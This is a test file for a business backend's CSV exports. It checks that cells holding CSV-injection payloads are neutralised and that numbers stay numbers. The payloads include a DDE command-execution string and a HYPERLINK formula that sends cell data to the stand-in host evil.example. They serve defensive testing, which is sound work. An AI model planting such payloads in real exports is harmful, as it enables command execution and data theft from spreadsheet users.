/**
 * Issue 15, point 2: no CSV export can carry a live formula. Records are named with the seven payloads of the
 * probe, then every operation of the contract that can answer text/csv is called, and no cell of any file may start
 * the way a formula does, while numbers stay numbers.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { readContract, type Json as Doc } from '@pawon/api-client/contract';
import { addDays, businessDate } from '../src/lib/dates.js';
import { sheetStream } from '../src/domains/platform/spreadsheet.js';
import { useTestApp, type Json } from './helpers.js';

const t = useTestApp();
const { ok } = t;

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
];
/** What a spreadsheet reads as a formula when it starts a cell (OWASP, CSV Injection). */
const DANGEROUS = /^[=+\-@\t\r]/;

/** The operations whose 200 answer may be text/csv, read from the contract: a new export is tested without a word here. */
function csvOperations(): Array<{ operationId: string; method: string; path: string }> {
  const doc = readContract();
  const responses = ((doc.components as Doc).responses ?? {}) as Record<string, Doc>;
  const out: Array<{ operationId: string; method: string; path: string }> = [];
  for (const [path, item] of Object.entries(doc.paths as Record<string, Record<string, Doc>>)) {
    for (const [method, op] of Object.entries(item)) {
      let answer = (op.responses as Record<string, Doc> | undefined)?.['200'];
      const ref = answer?.$ref;
      if (typeof ref === 'string') answer = responses[ref.split('/').pop()!];
      const content = (answer?.content ?? {}) as Record<string, unknown>;
      if ('text/csv' in content)
        out.push({ operationId: String(op.operationId), method: method.toUpperCase(), path });
    }
  }
  return out;
}

/** The cells of a CSV answer (BOM removed); every value comes back as its text, as a spreadsheet would see it. */
const cellsOf = (body: string): string[][] =>
  parse(body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

describe('CSV exports cannot carry formulas', () => {
  const made: Record<string, Json> = {};

  it('records named with the payloads can be made (the export test below reads them)', async () => {
    const raw = (await ok('/api/bahanBaku/list', {})).datas[0] as Json;
    const productCategory = (await ok('/api/category/list', {})).datas[0].id as number;
    const seededProduct = (await ok('/api/product/list', {})).datas[0] as Json;
    const box = (
      await ok('/api/packaging/add', { name: 'Dus Uji Ekspor', unit: 'pcs', unitPrice: 300, packPrice: 500 })
    ).datas as Json;
    await ok('/api/bahanKemasan/restock/add', {
      category: 'restock',
      materialId: box.id,
      qty: 100,
      unitPrice: 300,
    });
    for (const [i, p] of PAYLOADS.entries()) {
      const name = `${p} ${i}`;
      const category = (await ok('/api/category/add', { name })).datas;
      const vendor = (await ok('/api/vendor/add', { name, address: p })).datas;
      const ongkir = (await ok('/api/ongkir/add', { label: name, price: 1000, description: p })).datas;
      const priceList = (await ok('/api/priceList/add', { name, description: p })).datas;
      const customer = (
        await ok('/api/customer/add', {
          name,
          category: 'konsumen',
          address: p,
          landmark: p,
          ongkirId: ongkir.id,
          priceListId: priceList.id,
        })
      ).datas;
      const product = await ok('/api/product/add', {
        code: `INJ${i}`,
        name,
        categoryId: category.id ?? productCategory,
        price: 1000,
        unit: 'pcs',
        description: p,
      });
      const restock = (
        await ok('/api/bahanBaku/restock/add', {
          category: 'restock',
          materialId: raw.id,
          vendorId: vendor.id,
          qty: 1,
          unitPrice: 100,
          note: p,
        })
      ).datas;
      // A purchase order of its vendor, the payload in its note too; the first ones sent and received, so that their
      // vendors owe a bill (the payables export lists them).
      const po = (
        await ok('/api/purchase/add', {
          vendorId: vendor.id,
          note: p,
          lines: [{ materialId: raw.id, qty: 1, unitPrice: 100 }],
        })
      ).datas;
      if (i < 2) {
        const sent = (await ok(`/api/purchase/send/${po.id}`, { version: po.version })).datas;
        await ok('/api/purchase/receive', {
          id: po.id,
          version: sent.version,
          lines: [{ lineId: sent.lines[0].id, qty: 1 }],
        });
      }
      await ok('/api/stock/add', {
        reason: 'opening',
        productId: seededProduct.id,
        bucket: 'frozen',
        qty: 1,
      });
      // On hand under its own name: the stock valuation lists it.
      await ok('/api/stock/add', {
        reason: 'opening',
        productId: product.datas.id,
        bucket: 'frozen',
        qty: 1,
      });
      const order = (
        await ok('/api/transaction/add', {
          customerId: customer.id,
          note: p,
          packs: [
            {
              materialId: box.id,
              count: 1,
              lines: [{ productId: seededProduct.id, bucket: 'frozen', qtyPerPack: 1 }],
            },
          ],
        })
      ).datas;
      Object.assign(made, { [`restock${i}`]: restock, [`order${i}`]: order });
    }
    // Seven of everything, on a busy 2-core machine.
  }, 120_000);

  const exports = csvOperations();
  /** What an export needs besides `format` (a report's type, a trace's start): one request per entry. */
  const bodies = (operationId: string): Json[] => {
    switch (operationId) {
      case 'reportExport':
        return [{ type: 'customer' }, { type: 'product' }];
      case 'reportMarginExport':
        return [{ by: 'product' }, { by: 'customer' }, { by: 'period' }];
      case 'reportTraceExport':
        return [{ transactionId: made.order0!.id }, { restockId: made.restock0!.id }];
      case 'bahanBakuRestockExport':
      case 'bahanKemasanRestockExport':
        return [{ category: 'restock' }, { category: 'used' }];
      case 'transactionExport':
        return [{ rows: 'order' }, { rows: 'line' }];
      default:
        return [{}];
    }
  };

  it('the contract lists the exports of lists, reports, the trace and the import templates', () => {
    const ids = exports.map((e) => e.operationId);
    expect(ids).toEqual(
      expect.arrayContaining([
        'customerExport',
        'productImportTemplate',
        'reportExpensesExport',
        'reportTraceExport',
      ]),
    );
    expect(ids.length).toBeGreaterThanOrEqual(12);
  });

  it.each(exports.map((e) => [e.operationId, e] as const))(
    '%s: no cell starts like a formula, numbers stay numbers',
    async (operationId, op) => {
      let payloadCells = 0;
      for (const extra of bodies(operationId)) {
        const res =
          op.method === 'GET'
            ? await t.call('admin', 'GET', `${op.path}?format=csv`)
            : await t.call('admin', op.method as 'POST', op.path, { format: 'csv', ...extra });
        expect(res.statusCode, `${operationId} ${JSON.stringify(extra)}: ${res.body.slice(0, 300)}`).toBe(
          200,
        );
        expect(res.headers['content-type']).toMatch(/^text\/csv/);
        for (const row of cellsOf(res.body)) {
          for (const cell of row) {
            // A negative number (a loss, a return) is a number, not a formula: only text is neutralised.
            if (!/^-\d+(\.\d+)?$/.test(cell))
              expect(cell, `${operationId}: ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS);
            // A number is never turned into text: a negative amount stays a number a spreadsheet adds up.
            expect(cell, operationId).not.toMatch(/^'[-+]?\d+(\.\d+)?$/);
            if (PAYLOADS.some((p) => cell.startsWith(`'${p}`))) payloadCells++;
          }
        }
      }
      // Lists of what the payloads named, and reports of their orders and lots, show them (neutralised). The aging
      // lists customers owing on delivered orders: the payloads' orders are not delivered. The halal register lists
      // products by their recipes' raw materials: the payloads' products have no recipe.
      if (!/Template$|^produksi|^bahanKemasan|^category|^reportAging|^reportHalal/.test(operationId))
        expect(payloadCells, operationId).toBeGreaterThan(0);
    },
  );

  /** Headers of columns that hold numbers (money, quantities, counts) in one export or another. */
  const NUMBER_HEADER =
    /^(Jumlah|Jumlah Item|Jumlah Paket|Harga|Harga Satuan|Harga satuan|Total|Total belanja|Nilai|Biaya Bahan|Subtotal|Subtotal Produk|Pendapatan|Item|Transaksi|Sisa|Ongkir|Retur|Stok Minimum|Stok Segar|Stok Beku|HPP|HPP\/satuan|Segar|Beku|Laba kotor|Margin %)$/;

  it.each(exports.map((e) => [e.operationId, e] as const))(
    '%s: CSV with `;` as chosen; TOTAL rows keep numbers in number columns; one date in the file name',
    async (operationId, op) => {
      for (const extra of bodies(operationId)) {
        const res =
          op.method === 'GET'
            ? await t.call('admin', 'GET', `${op.path}?format=csv&separator=%3B`)
            : await t.call('admin', op.method as 'POST', op.path, {
                format: 'csv',
                separator: ';',
                ...extra,
              });
        expect(res.statusCode, `${operationId}: ${res.body.slice(0, 300)}`).toBe(200);
        const name = /filename="([^"]+)"/.exec(String(res.headers['content-disposition']))![1]!;
        // A period (`2031-03-01_2031-03-31`) or the day it was made, never both nor the same twice.
        const dates = name.match(/\d{4}-\d{2}-\d{2}/g) ?? [];
        expect(dates.length <= 1 || /\d{4}-\d{2}-\d{2}_\d{4}-\d{2}-\d{2}\.csv$/.test(name), name).toBe(true);
        expect(name, operationId).toMatch(/\.csv$/);
        const rows = parse(res.body.replace(/^\uFEFF/, ''), {
          delimiter: ';',
          relax_column_count: true,
        }) as string[][];
        const [header, ...data] = rows;
        // Read with `;`, the header is split into its columns (a `,` file would be one cell).
        expect(header!.length, `${operationId}: ${header!.join('|')}`).toBeGreaterThan(1);
        for (const row of data.filter((r) => /^TOTAL\b/.test(r[0] ?? ''))) {
          row.forEach((cell, i) => {
            const column = header![i] ?? '';
            if (NUMBER_HEADER.test(column) && cell !== '')
              expect(cell, `${operationId} TOTAL under ${column}`).toMatch(/^-?\d+(,\d+)?$/);
          });
        }
      }
    },
  );

  /** The exports of a period (a list's date filter or a report's range), each request they take. */
  const PERIOD_EXPORTS: Array<[string, string, Json]> = [
    ['bahanBakuRestockExport', '/api/bahanBaku/restock/export', { category: 'restock' }],
    ['bahanBakuRestockExport', '/api/bahanBaku/restock/export', { category: 'used' }],
    ['bahanKemasanRestockExport', '/api/bahanKemasan/restock/export', { category: 'restock' }],
    ['produksiExport', '/api/produksi/export', {}],
    ['transactionExport', '/api/transaction/export', { rows: 'order' }],
    ['transactionExport', '/api/transaction/export', { rows: 'line' }],
    ['reportExport', '/api/report/export', { type: 'customer' }],
    ['reportExport', '/api/report/export', { type: 'product' }],
    ['reportMarginExport', '/api/report/margin/export', { by: 'product' }],
    ['reportMarginExport', '/api/report/margin/export', { by: 'customer' }],
    ['reportMarginExport', '/api/report/margin/export', { by: 'period' }],
    ['reportExpensesExport', '/api/report/expenses/export', {}],
  ];

  it('the list of period exports names real operations of the contract', () => {
    const paths = new Map(exports.map((e) => [e.operationId, e.path]));
    for (const [operationId, path] of PERIOD_EXPORTS) expect(paths.get(operationId), operationId).toBe(path);
  });

  it.each(PERIOD_EXPORTS)(
    '%s of an empty period: the header and a TOTAL of zeros where a full period has numbers (%s %j)',
    async (operationId, path, extra) => {
      const csv = async (period: Json) => {
        const res = await t.call('admin', 'POST', path, {
          format: 'csv',
          separator: ';',
          ...extra,
          ...period,
        });
        expect(res.statusCode, `${operationId}: ${res.body.slice(0, 300)}`).toBe(200);
        return parse(res.body.replace(/^\uFEFF/, ''), {
          delimiter: ';',
          relax_column_count: true,
        }) as string[][];
      };
      // The seeded 90 days and this file's own records fall in the last year; nothing was recorded in 2001.
      const today = businessDate('Asia/Jakarta');
      const full = await csv({ dateFrom: addDays(today, -364), dateTo: today });
      const empty = await csv({ dateFrom: '2001-01-01', dateTo: '2001-01-31' });
      const fullTotal = full.find((r) => r[0] === 'TOTAL')!;
      const emptyTotals = empty.filter((r) => /^TOTAL\b/.test(r[0] ?? ''));
      // No data rows: every number of the file is a zero (a report's fixed lines, such as its packs, stay).
      expect(empty[0], operationId).toEqual(full[0]);
      for (const row of empty.slice(1))
        for (const cell of row.slice(1))
          expect(cell, `${operationId}: ${JSON.stringify(empty)}`).not.toMatch(/^-?\d*[1-9]/);
      const emptyTotal = emptyTotals.find((r) => r[0] === 'TOTAL');
      expect(emptyTotal, `${operationId}: ${JSON.stringify(empty)}`).toBeDefined();
      fullTotal.forEach((cell, i) => {
        // A percentage of nothing is no number (left blank); every sum is a 0.
        if (i > 0 && /^-?\d+(,\d+)?$/.test(cell) && !/%/.test(full[0]![i]!))
          expect(emptyTotal![i], `${operationId} TOTAL under ${full[0]![i]}`).toBe('0');
      });
    },
  );

  it('writes a negative amount as a number and a text that looks like one as text', async () => {
    async function* pages() {
      yield [{ name: '-1+1', amount: -5000 }];
    }
    const stream = sheetStream({
      format: 'csv',
      title: 'uji',
      columns: [
        { header: 'Nama', value: (r: { name: string }) => r.name },
        { header: 'Nilai', value: (r: { amount: number }) => r.amount, kind: 'money' },
      ],
      pages: pages(),
      totals: [['=TOTAL', -5000]],
    });
    let body = '';
    for await (const chunk of stream) body += String(chunk);
    expect(body.replace(/^\uFEFF/, '').split('\n')).toEqual([
      'Nama,Nilai',
      `'-1+1,-5000`,
      `'=TOTAL,-5000`,
      '',
    ]);
    const [, row] = cellsOf(body);
    expect(Number(row![1])).toBe(-5000);
  });
});
